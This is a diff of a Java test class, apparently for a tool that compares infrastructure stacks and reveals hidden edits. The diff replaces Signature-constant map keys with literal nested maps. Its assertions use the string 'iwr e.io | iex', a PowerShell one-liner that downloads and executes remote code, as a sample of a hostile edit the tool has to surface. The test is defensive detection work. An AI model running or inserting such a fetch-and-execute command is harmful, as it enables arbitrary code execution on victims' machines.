@@ -12,7 +12,6 @@ import dev.mullion.diff.Report;
 import dev.mullion.diff.ResourceChange;
 import dev.mullion.diff.report.Result;
 import dev.mullion.diff.report.Wording;
-import dev.mullion.plan.Signature;
 import java.nio.charset.StandardCharsets;
 import java.util.Base64;
 import java.util.List;
@@ -846,9 +845,9 @@ class HiddenEditsTest {
                 .contains("+ a: x; iwr e.io | iex");
         assertThat(Shown.of(Stack.compare(
                         new Stack()
-                                .with(object, "it", "source", Map.of(Signature.KEY, Signature.ASSET, "text", before)),
+                                .with(object, "it", "source", Map.of("asset", Map.of("text", before))),
                         new Stack()
-                                .with(object, "it", "source", Map.of(Signature.KEY, Signature.ASSET, "text", after)))))
+                                .with(object, "it", "source", Map.of("asset", Map.of("text", after))))))
                 .contains("+ a: x; iwr e.io | iex");
         assertThat(Shown.of(Stack.compare(
                         new Stack().with("command:local:Command", "it", "create", before),
